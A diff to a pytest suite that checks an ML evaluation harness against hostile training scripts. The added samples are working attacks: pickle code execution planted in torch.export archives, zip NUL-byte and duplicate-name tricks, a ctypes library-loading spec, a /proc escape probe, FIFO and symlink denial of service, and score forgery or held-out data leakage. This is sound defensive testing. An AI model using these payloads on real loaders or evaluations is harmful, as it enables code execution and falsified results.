@@ -83,9 +83,18 @@ if os.fork() == 0:                                                        # afte
 sys.stdout.write("\n" + FAKE + "val_mean_rank: 0.5")                      # last line, no newline
 '''
 
-# 4: no model, or pickles instead of torch.export archives. The payload says if it ever ran.
-PAYLOAD = ("import sys\nprint('PAYLOAD-EXECUTED', flush=True)\n"
-           "try:\n    open('@MARKER@', 'w').write('x')\nexcept OSError:\n    pass\n")
+# 4: no model, or pickles instead of torch.export archives. Should the payload ever run in the evaluation, it ends
+# that process with exit code 77, which the trusted side reports whichever process it ran in: run.sh's "evaluation
+# exited with code 77" for the evaluator, the evaluator's "encoder process died (exit code 77)" for its child.
+# (A print or a file would not do: the child's stdout is /dev/null and the container's /tmp is its own.)
+PAYLOAD = "import os\nprint('PAYLOAD-EXECUTED', flush=True)\nos._exit(77)\n"
+
+
+def payload_ran(seen):
+    text = "\n".join(unprefixed(seen))
+    return "PAYLOAD-EXECUTED" in text or re.search(r"\bcode 77\b", text) is not None
+
+
 NO_MODEL = HONEST + r'''
 print(@FAKE@, flush=True)
 stats(val_mean_rank=0.5)
@@ -98,56 +107,146 @@ class Evil:
 stats()
 open(os.path.join(OUT, "image_encoder.pt2"), "wb").write(pickle.dumps(Evil()))   # a plain pickle
 torch.save(Evil(), os.path.join(OUT, "text_encoder.pt2"))                        # a torch.save zip
-'''
-# A real torch.export archive whose weight entry is marked "use_pickle": torch.export.load() unpickles it with
-# weights_only=False. The payload rewrites the evaluator's scoring and hands back a proper tensor.
-PICKLE_IN_PT2 = HONEST + r'''
-import io, zipfile
-img, txt = Img(), Txt()
-export(img, txt)
-stats()
-CODE = @PAYLOAD@ + """
-m = sys.modules['__main__']
-if hasattr(m, 'retrieval_metrics'):
-    real = m.retrieval_metrics
-    def fake(sim, real=real):
-        out = real(sim); out.update(mean_rank=1.0, median_rank=1.0, r1=1.0, r5=1.0, r10=1.0); return out
-    m.retrieval_metrics = fake
-"""
-path = os.path.join(OUT, "image_encoder.pt2")
-with zipfile.ZipFile(path) as z:
-    entries = {n: z.read(n) for n in z.namelist()}
-cfg_name = next(n for n in entries if n.endswith("model_weights_config.json"))
-cfg = json.loads(entries[cfg_name])
-fqn, pm = next(iter(cfg["config"].items()))
-shape = tuple(s["as_int"] for s in pm["tensor_meta"]["sizes"])
-class Evil:
-    def __reduce__(self):
-        return (eval, (f"(exec({CODE!r}), __import__('torch').nn.Parameter(__import__('torch').zeros{shape}))[1]",))
-buf = io.BytesIO()
-torch.save(Evil(), buf)
-pm["use_pickle"] = True
-entries[cfg_name] = json.dumps(cfg).encode()
-entries[cfg_name.rsplit("/", 1)[0] + "/" + pm["path_name"]] = buf.getvalue()
-with zipfile.ZipFile(path, "w") as z:
-    for n, b in entries.items():
-        z.writestr(n, b)
-print("planted a pickle in", fqn, flush=True)
+print("wrote pickles", flush=True)
 '''
 
-# 1 again, from inside the exported graph: aten._print is a graph op, so it prints from the evaluator process.
+# Archive surgery for the hostile train.py files below: entries read and written exactly as named (ZipInfo() would
+# cut a name at a NUL byte), and a weight marked "use_pickle", which torch.export.load() unpickles with
+# weights_only=False: the pickle runs the payload and hands back a parameter of the right shape.
+ARCHIVE_TOOLS = r'''
+import io, zipfile
+PAYLOAD = @PAYLOAD@
+def entries_of(path):
+    with zipfile.ZipFile(path) as z:
+        return [(i.filename, z.read(i)) for i in z.infolist()]
+def write_entries(path, entries):
+    with zipfile.ZipFile(path, "w") as z:
+        for name, data in entries:
+            info = zipfile.ZipInfo("x")
+            info.filename = name
+            z.writestr(info, data)
+def plant_pickle(path):
+    # (entries with a new pickled weight_9, the weights config's name, a config that points p.bias at weight_9)
+    entries = entries_of(path)
+    name = next(n for n, _ in entries if n.endswith("model_weights_config.json"))
+    cfg = json.loads(dict(entries)[name])
+    pm = cfg["config"]["p.bias"]
+    pm.update(use_pickle=True, path_name="weight_9")
+    shape = tuple(s["as_int"] for s in pm["tensor_meta"]["sizes"])
+    class Evil:
+        def __reduce__(self):
+            t = "__import__('torch')"
+            return (eval, (f"(exec({PAYLOAD!r}), {t}.nn.Parameter({t}.zeros{shape}))[1]",))
+    buf = io.BytesIO()
+    torch.save(Evil(), buf)
+    return entries + [(name.rsplit("/", 1)[0] + "/weight_9", buf.getvalue())], name, json.dumps(cfg).encode()
+export(Img(), Txt())
+stats()
+path = os.path.join(OUT, "image_encoder.pt2")
+'''
+PICKLE_IN_PT2 = HONEST + ARCHIVE_TOOLS + r'''
+entries, cfg_name, evil = plant_pickle(path)
+write_entries(path, [(n, evil if n == cfg_name else d) for n, d in entries])
+print("planted a pickle in p.bias", flush=True)
+'''
+# The same pickle where two zip readers disagree, so the checker reads the clean config and torch the pickled one:
+# zipfile cuts a name at a NUL byte, and of two entries with one name zipfile keeps the last, torch the first.
+HIDDEN_PICKLE = HONEST + ARCHIVE_TOOLS + r'''
+entries, cfg_name, evil = plant_pickle(path)
+out = []
+for n, d in entries:
+    out += [(n, evil), (@SECOND_NAME@, d)] if n == cfg_name else [(n, d)]
+write_entries(path, out)
+print("planted a pickle behind", @SECOND_NAME_LABEL@, flush=True)
+'''
+# Defence in depth: should a pickle ever get past the checks (here they are taken out of a copy of the evaluator),
+# it runs in the child process that runs the graphs, where it can reach neither the evaluator's stdout, stdin,
+# memory or environment nor the split, nor run a program from the hand-off. The payload reports what it reached in
+# its exit code, 64 + one bit each.
+ESCAPE_PAYLOAD = r'''
+import os, subprocess
+parent = "/proc/%d/" % os.getppid()
+reached = 0
+for bit, (path, mode) in enumerate([(parent + "fd/1", "w"), (parent + "fd/0", "rb"), (parent + "mem", "rb"),
+                                    (parent + "environ", "rb"), ("/data", "dir"), ("/out/hello", "exec")]):
+    try:   # no functions here: the payload runs in an exec() inside an eval(), where they would not see its names
+        if mode == "dir":
+            os.listdir(path)
+        elif mode == "exec":
+            subprocess.run([path], check=True)
+        else:
+            with open(path, mode) as f:
+                if mode == "w":
+                    f.write("\nval_mean_rank: 1.00\n")
+        reached |= 1 << bit
+    except OSError:
+        pass
+os.write(1, b"\nval_mean_rank: 1.00\n")
+os.write(2, b"\nval_mean_rank: 1.00\n")
+os._exit(64 + reached)
+'''
+ESCAPE = PICKLE_IN_PT2 + r'''
+hello = os.path.join(OUT, "hello")   # a program in the hand-off, which is mounted noexec for the evaluation
+open(hello, "w").write("#!/bin/sh\nexit 0\n")
+os.chmod(hello, 0o755)
+'''
+WEAKENED = [('if pm.get("use_pickle") is not False or not pm.get("tensor_meta")', 'if not pm.get("tensor_meta")'),
+            ('TORCH_FORCE_WEIGHTS_ONLY_LOAD="1"', 'TORCH_FORCE_WEIGHTS_ONLY_LOAD="0"')]
+
+# 1, through the pytree specs: torch decodes a dict's keys with a JSON hook that imports any attribute by name and
+# indexes it; ctypes.cdll[path] loads a library, whose constructor runs the payload (exit code 77).
+SPEC_CTYPES = HONEST + ARCHIVE_TOOLS + r'''
+import base64
+lib = os.path.join(OUT, "payload.so")
+open(lib, "wb").write(base64.b64decode(@LIBRARY@))
+out = []
+for n, d in entries_of(path):
+    if n.endswith("models/model.json"):
+        m = json.loads(d)
+        sig = m["graph_module"]["module_call_graph"][0]["signature"]
+        spec = json.loads(sig["in_spec"])
+        spec[1]["children_spec"][1]["context"] = json.dumps([{"__enum__": True, "fqn": "ctypes:cdll", "name": lib}])
+        sig["in_spec"] = json.dumps(spec)
+        d = json.dumps(m).encode()
+    out.append((n, d))
+write_entries(path, out)
+print("spec loads", lib, flush=True)
+'''
+LIBRARY_C = '''#include <unistd.h>
+__attribute__((constructor)) static void payload(void) { write(1, "PAYLOAD-EXECUTED\\n", 17); _exit(77); }
+'''
+
+# The hand-off holds regular files of bounded size only: a FIFO blocked the evaluator until its time limit, a
+# symlink to /dev/zero ran it out of memory.
+FIFO_STATS = HONEST + r'''
+export(Img(), Txt())
+os.mkfifo(os.path.join(OUT, "train_stats.json"))
+print("made a FIFO", flush=True)
+'''
+SYMLINK_STATS = HONEST + r'''
+export(Img(), Txt())
+os.symlink("/dev/zero", os.path.join(OUT, "train_stats.json"))
+print("linked /dev/zero", flush=True)
+'''
+BIG_STATS = HONEST + r'''
+export(Img(), Txt())
+stats(padding="x" * (1 << 20))
+print("stats bytes", os.path.getsize(os.path.join(OUT, "train_stats.json")), flush=True)
+'''
+
+# 1 again, from inside the exported graph: aten._print is a graph op, so it would print from the evaluation.
 PRINT_OP = HONEST + r'''
 class Img2(Img):
     def forward(s, images):
         torch.ops.aten._print(@FAKE_TAIL@)
         return super().forward(images)
-img, txt = Img2(), Txt()
-export(img, txt)
+export(Img2(), Txt())
 stats()
+print("exported with aten._print", flush=True)
 '''
 
 # 3 again, at evaluation time: aten::from_file is a legal op (it just can't be traced), so a hand-edited graph
-# reads the validation split that is mounted in the evaluation container and outputs the matching row.
+# reads the validation split where main used to mount it in the evaluation container and outputs the matching row.
 FROM_FILE = HONEST + r'''
 import io, zipfile
 import numpy as np
@@ -204,6 +303,37 @@ torch.export.save(torch.export.export(Pos(), (torch.rand(2, 3, S, S),), dynamic_
 torch.export.save(torch.export.export(PosTxt(), (ids, mask), dynamic_shapes=({0: B}, {0: B})),
                   os.path.join(OUT, "text_encoder.pt2"))
 stats()
+'''
+
+# 5 again: embeddings centred on their batch's mean adapt to the evaluation data (and scored a little better).
+BATCH_MEAN = HONEST + r'''
+class CImg(Img):
+    def forward(s, images):
+        e = super().forward(images)
+        return e - e.mean(0, keepdim=True)
+class CTxt(Txt):
+    def forward(s, input_ids, attention_mask):
+        e = super().forward(input_ids, attention_mask)
+        return e - e.mean(0, keepdim=True)
+export(CImg(), CTxt())
+stats()
+print("exported batch-centred encoders", flush=True)
+'''
+# The same across batches: a graph that updates a buffer carries what it saw (here a running mean) to the next call.
+STATEFUL = HONEST + r'''
+class SImg(Img):
+    def __init__(s):
+        super().__init__()
+        s.register_buffer("total", torch.zeros(8))
+        s.register_buffer("count", torch.zeros(()))
+    def forward(s, images):
+        e = super().forward(images)
+        s.total.add_(e.sum(0))
+        s.count.add_(e.shape[0])
+        return e - s.total / s.count
+export(SImg(), Txt())
+stats()
+print("exported a stateful image encoder", flush=True)
 '''
 
 # 3 and 6: the synthetic data is a pure function of meta.json's seed and counts, and the generator is public
@@ -290,6 +420,17 @@ def unprefixed(seen):
     return [l for l in seen.lines if not l.startswith("train| ")]
 
 
+def payload_library(tmp):
+    """base64 of a shared library whose constructor runs the payload; without a C compiler, bytes that are not a
+    library (the attack is then only attempted, and the refusal is the same)."""
+    import base64
+    if not shutil.which("gcc"):
+        return base64.b64encode(b"no C compiler to build the payload library").decode()
+    (tmp / "payload.c").write_text(LIBRARY_C)
+    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(tmp / "payload.so"), str(tmp / "payload.c")], check=True)
+    return base64.b64encode((tmp / "payload.so").read_bytes()).decode()
+
+
 # ------------------------------------------------------------------------------------------------ the runs
 
 @pytest.fixture(scope="module")
@@ -320,19 +461,32 @@ def reference(tmp_path_factory, data):
 def runs(tmp_path_factory, data, reference):
     """All hostile runs (and the harness end to end), a few at a time; {name: Seen}."""
     base = tmp_path_factory.mktemp("hostile")
-    marker = base / "PAYLOAD-MARKER"
-    payload = repr(PAYLOAD.replace("@MARKER@", str(marker)))
+    payload = repr(PAYLOAD)
     jobs = {
         "forger": src(FORGER, FAKE=repr(FAKE), HOSTDATA=str(data)),
         "no_model": src(NO_MODEL, FAKE=repr(FAKE)),
         "pickle_files": src(PICKLE_FILES, PAYLOAD=payload),
         "pickle_in_pt2": src(PICKLE_IN_PT2, PAYLOAD=payload),
+        "nul_name": src(HIDDEN_PICKLE, PAYLOAD=payload, SECOND_NAME='n + "\\0hidden"',
+                        SECOND_NAME_LABEL="'a NUL name'"),
+        "dup_name": src(HIDDEN_PICKLE, PAYLOAD=payload, SECOND_NAME="n", SECOND_NAME_LABEL="'a duplicate name'"),
+        "escape": src(ESCAPE, PAYLOAD=repr(ESCAPE_PAYLOAD)),
+        "spec_ctypes": src(SPEC_CTYPES, PAYLOAD=payload, LIBRARY=repr(payload_library(base))),
+        "fifo_stats": FIFO_STATS,
+        "symlink_stats": SYMLINK_STATS,
+        "big_stats": BIG_STATS,
         "print_op": src(PRINT_OP, FAKE_TAIL=repr("\n" + FAKE)),
         "position": src(POSITION),
+        "batch_mean": BATCH_MEAN,
+        "stateful": STATEFUL,
         "from_file": src(FROM_FILE),
         "regen": src(REGEN, GENERATOR=repr((ROOT / "prepare_data.py").read_text()), N_VAL=str(N_VAL)),
     }
     repos = {name: make_repo(base / name, s) for name, s in jobs.items()}
+    evaluator = repos["escape"] / "prepare_data.py"
+    for old, new in WEAKENED:
+        assert old in evaluator.read_text(), f"the escape test no longer weakens the evaluator: {old!r} is gone"
+        evaluator.write_text(evaluator.read_text().replace(old, new))
     # a stale, perfectly good model from an earlier run must not be evaluated as this run's
     stale = repos["no_model"] / "runs" / "last"
     stale.mkdir(parents=True)
@@ -347,7 +501,6 @@ def runs(tmp_path_factory, data, reference):
     t = time.time()
     with ThreadPoolExecutor(PARALLEL) as pool:
         results = dict(zip(["harness", *jobs], pool.map(one, ["harness", *jobs])))
-    results["marker_exists"] = marker.exists()
     print(f"integrity runs: {time.time() - t:.0f}s wall; " +
           ", ".join(f"{k} {v.seconds:.0f}s" for k, v in results.items() if isinstance(v, Seen)))
     return results
@@ -388,55 +541,111 @@ def test_training_cannot_see_validation_or_test_data(runs):
     assert probes["tty"].startswith("blocked")
 
 
-# ------------------------------------------------------------------------------------------------ 4 no model
+# ------------------------------------------------------------------------------------------------ 4 refusals
+
+def refused(r, reason):
+    """The evaluator refused the run, for `reason` (its one error line), and no payload ran."""
+    assert not payload_ran(r), f"the payload ran in the evaluation: {r}"
+    assert r.rc == 1 and r.status == "crash" and r.value is None and "val_mean_rank" not in r.metrics, r
+    assert r.lines[-2] == "run.sh: FAILED evaluation exited with code 1", r
+    errors = [l for l in unprefixed(r) if l.startswith("prepare_data.py: error: ")]
+    assert len(errors) == 1 and reason in errors[0], r
+
 
 def test_skipping_the_model_is_a_crash_and_a_stale_model_is_not_used(runs):
-    r = runs["no_model"]
-    assert r.rc == 1 and r.status == "crash" and r.value is None, r
-    assert "val_mean_rank" not in r.metrics and "missing model file" in r.out
-    assert r.lines[-2] == "run.sh: FAILED evaluation exited with code 1"
+    refused(runs["no_model"], "missing model file /out/image_encoder.pt2")
 
 
-def test_pickles_instead_of_models_are_a_crash_and_never_unpickled(runs):
+def test_pickles_instead_of_models_are_refused_unread(runs):
     r = runs["pickle_files"]
-    assert r.rc == 1 and r.status == "crash" and r.value is None, r
-    assert "not a torch.export archive" in r.out or "cannot load" in r.out, r
-    assert "PAYLOAD-EXECUTED" not in unprefixed(r) and "train| PAYLOAD-EXECUTED" not in r.lines
-    assert not runs["marker_exists"]
+    assert "train| wrote pickles" in r.lines, r
+    refused(r, "cannot load /out/image_encoder.pt2: not a torch.export archive (BadZipFile")
 
 
-def test_a_pickle_inside_a_pt2_archive_never_runs_in_the_evaluator(runs, reference):
-    # torch.export.load() unpickles weights marked "use_pickle" (torch.load(weights_only=False)): the evaluator
-    # must refuse such an archive before loading it, or the payload rewrites the scoring in its process.
+def test_a_pickled_weight_is_refused(runs):
+    # torch.export.load() unpickles weights marked "use_pickle" with weights_only=False.
     r = runs["pickle_in_pt2"]
-    assert "train| planted a pickle in p.weight" in r.lines, r
-    assert "PAYLOAD-EXECUTED" not in unprefixed(r), "the payload ran inside the trusted evaluator"
-    assert not runs["marker_exists"]
-    assert r.value is None or r.value >= reference["value"] - 0.011, r
+    assert "train| planted a pickle in p.bias" in r.lines, r
+    refused(r, "cannot load /out/image_encoder.pt2: 'p.bias' is not a plain tensor")
 
 
-def test_a_graph_cannot_print_a_metric_from_inside_the_evaluator(runs, reference):
-    # aten._print is a legal graph op: it prints from the evaluator's process, unprefixed, next to the real block.
+def test_a_pickle_behind_a_nul_byte_in_an_entry_name_is_refused(runs):
+    r = runs["nul_name"]
+    assert "train| planted a pickle behind a NUL name" in r.lines, r
+    refused(r, r"entry name 'image_encoder/data/weights/model_weights_config.json\x00hidden' has a non-printable")
+
+
+def test_a_pickle_behind_a_duplicate_entry_name_is_refused(runs):
+    r = runs["dup_name"]
+    assert "train| planted a pickle behind a duplicate name" in r.lines, r
+    refused(r, "duplicate entry 'image_encoder/data/weights/model_weights_config.json'")
+
+
+def test_a_pytree_spec_that_names_a_library_loader_is_refused(runs):
+    r = runs["spec_ctypes"]
+    assert "train| spec loads /out/payload.so" in r.lines, r
+    refused(r, "cannot load /out/image_encoder.pt2: unexpected input/output structure")
+    assert "ctypes:cdll" in r.out
+
+
+def test_a_payload_that_gets_past_the_checks_stays_in_the_child(runs):
+    # The evaluator copy for this run lets the pickle through; the payload runs in the child that loads the graphs
+    # and reports in its exit code (64 + a bit for each) whether it reached the evaluator's stdout, stdin, memory
+    # or environment, or the split, or ran a program from the hand-off. 64: none of them. Its own stdout and
+    # stderr are /dev/null.
+    r = runs["escape"]
+    assert "train| planted a pickle in p.bias" in r.lines, r
+    refused(r, "the encoder process died (exit code 64)")
+    assert "val_mean_rank: 1.00" not in unprefixed(r)
+
+
+def test_the_hand_off_holds_regular_files_only(runs):
+    assert "train| made a FIFO" in runs["fifo_stats"].lines, runs["fifo_stats"]
+    refused(runs["fifo_stats"], "train_stats.json in the run directory is not a regular file")
+    assert "train| linked /dev/zero" in runs["symlink_stats"].lines, runs["symlink_stats"]
+    refused(runs["symlink_stats"], "cannot open train_stats.json in the run directory (Too many levels of symbolic")
+
+
+def test_hand_off_files_have_a_size_cap(runs):
+    r = runs["big_stats"]
+    size = int(re.search(r"^train\| stats bytes (\d+)$", r.full, re.M).group(1))
+    assert size > 1 << 20, r
+    refused(r, f"train_stats.json is {size} bytes, more than the 65536 allowed")
+
+
+def test_a_graph_cannot_print_from_inside_the_evaluator(runs):
+    # aten._print would print from the process that runs the graph, unprefixed, next to the real block.
     r = runs["print_op"]
-    assert r.value is None or r.value == pytest.approx(reference["value"], abs=0.011), r
+    assert "train| exported with aten._print" in r.lines, r
+    refused(r, "the graph calls 'torch.ops.aten._print.default': only side-effect-free aten ops are allowed")
     assert "val_mean_rank: 0.5" not in unprefixed(r), "a forged unprefixed line came out of the evaluation"
 
 
-def test_a_graph_cannot_read_the_validation_split_during_evaluation(runs, reference):
+def test_a_graph_cannot_read_files_during_evaluation(runs):
     r = runs["from_file"]
     assert "train| patched image_encoder.pt2" in r.lines and "train| patched text_encoder.pt2" in r.lines, r
-    assert r.value is None or r.value >= reference["value"] - 0.011, f"a graph reading /data/val scored {r.value}"
+    refused(r, "the graph calls 'torch.ops.aten.from_file.default': only side-effect-free aten ops are allowed")
 
 
-# ------------------------------------------------------------------------------------------------ 5 position
+# ------------------------------------------------------------------------------------------------ 5 the batch
 
-def test_batch_position_cheat_is_no_better_than_chance(runs):
-    r = runs["position"]
-    assert r.rc == 0 and r.status == "ok", r
-    # With shared orders it would score 1.0. With independent secret orders only the fixed points of a random
-    # permutation match (expected 1): mean rank ~ n - 1, chance is (n + 1) / 2.
-    assert r.value > (N_VAL + 1) / 2, r
-    assert r.metrics["val_n"] == N_VAL
+def test_batch_position_cheat_is_refused(runs):
+    # With shared image and caption orders it would score 1.0; the orders are independent and secret, and an
+    # output that depends on its place in the batch is refused outright.
+    refused(runs["position"], "image_encoder.pt2 gives a different embedding for the same input in another batch")
+
+
+def test_batch_dependent_embeddings_are_refused(runs):
+    r = runs["batch_mean"]
+    assert "train| exported batch-centred encoders" in r.lines, r
+    refused(r, "image_encoder.pt2 gives a different embedding for the same input in another batch")
+
+
+def test_state_carried_between_batches_is_refused(runs):
+    r = runs["stateful"]
+    assert "train| exported a stateful image encoder" in r.lines, r
+    refused(r, "image_encoder.pt2 failed on the evaluation data: the graph changed its own weights, buffers or "
+               "constants")
 
 
 # ------------------------------------------------------------------------------------------------ 3 + 6 held-out data
@@ -451,12 +660,14 @@ def test_held_out_splits_cannot_be_rebuilt_inside_the_sandbox(runs, data):
     # The synthetic splits come from one RNG stream seeded by meta.json's "seed" (0 by default): with the
     # generator's code, train.py regenerates val and test byte for byte and exports a lookup table of val.
     r = runs["regen"]
-    rebuilt = dict(re.findall(r"^train\| REGEN (\w+) (\w+) ", r.full, re.M))
-    assert rebuilt.get("val") != split_hash(data, "val"), f"train.py rebuilt the validation split (scored {r.value})"
-    assert rebuilt.get("test") != split_hash(data, "test"), "train.py rebuilt the test split"
-    assert r.value is None or r.value > N_VAL / 4, f"a lookup table scored {r.value}"
-
-
+    rebuilt = {split: (digest, same) for split, digest, same in
+               re.findall(r"^train\| REGEN (\w+) (\w+) train-identical=(\w+)$", r.full, re.M)}
+    assert set(rebuilt) == {"val", "test"}, r                                  # the attack ran ...
+    assert rebuilt["val"][1] == "True", "control: train.py's generator must rebuild the public train split"
+    assert rebuilt["val"][0] != split_hash(data, "val"), f"train.py rebuilt the validation split (scored {r.value})"
+    assert rebuilt["test"][0] != split_hash(data, "test"), "train.py rebuilt the test split"
+    # ... and its lookup table of the wrong data is worth no more than chance
+    assert r.status == "ok" and r.value >= (N_VAL + 1) / 2, f"a lookup table scored {r.value}"
 # ------------------------------------------------------------------------------------------------ end to end
 
 EDIT_OLD = "torch.manual_seed(0)\n"
